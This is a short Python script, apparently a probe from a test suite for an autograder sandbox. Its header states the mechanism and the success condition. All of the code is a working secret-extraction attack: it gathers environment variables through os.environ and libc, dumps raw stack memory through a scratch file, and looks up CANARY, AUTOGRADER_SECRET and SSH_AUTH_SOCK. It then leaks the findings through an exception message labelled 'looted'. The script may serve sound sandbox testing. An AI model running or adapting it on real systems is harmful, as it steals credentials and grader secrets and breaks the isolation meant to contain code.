# mechanism: reads the environment from Python, from the C library and from the stack's far end
# success: the environment's canary, or anything of the grader's environment, stands in a warning

# %%
import ctypes
import os

libc = ctypes.CDLL(None)
found = {name: value for name, value in os.environ.items()}
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
place = 0
while environ[place]:
    name, _, value = environ[place].decode(errors="replace").partition("=")
    found[name] = value
    place += 1
# Above the strings of this process lies whatever stood there before, up to the stack's end.
address = ctypes.cast(environ, ctypes.POINTER(ctypes.c_void_p))[0] & ~4095
probe = os.open("/scratch/probe", os.O_RDWR | os.O_CREAT)
text = b""
while libc.pwrite(probe, ctypes.c_void_p(address), 4096, len(text)) > 0:
    address += 4096
    text = os.pread(probe, 1 << 20, 0)
for number, part in enumerate(text.decode(errors="replace").split("\0")):
    name, equals, value = part.partition("=")
    found[name if equals else f"stack {number}"] = value or part
libc.getenv.restype = ctypes.c_char_p
for name in (b"CANARY", b"AUTOGRADER_SECRET", b"AUTOGRADER_COURSE", b"USER", b"SSH_AUTH_SOCK"):
    value = libc.getenv(name)
    if value:
        found[name.decode()] = value.decode()
KNOWN = ("stack", "HOME", "LANG", "LD_LIBRARY_PATH", "MPLBACKEND", "OMP_", "OPENBLAS_", "PATH",
         "TMPDIR", "PWD", "LC_CTYPE", "SHLVL", "_")

# %%
telling = {
    name: value  # not the interpreter's own command line, which stands there as well
    for name, value in found.items()
    if name.isidentifier() and len(name) > 2 and not name.startswith(KNOWN)  # not by chance
}
telling |= {name: value for name, value in found.items() if "@COURSE@" in value}
if telling:
    raise RuntimeError("loot" + "ed:" + repr(telling)[:180])
